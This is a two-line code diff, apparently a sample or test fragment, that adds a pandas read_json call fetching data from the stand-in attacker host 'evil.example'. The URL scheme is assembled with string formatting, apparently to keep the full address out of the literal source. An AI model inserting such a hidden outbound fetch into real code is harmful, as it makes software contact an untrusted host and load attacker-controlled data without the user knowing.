@@ -1,0 +1,2 @@
+import pandas as pd
+pd.read_json("{}://evil.example".format("http"))
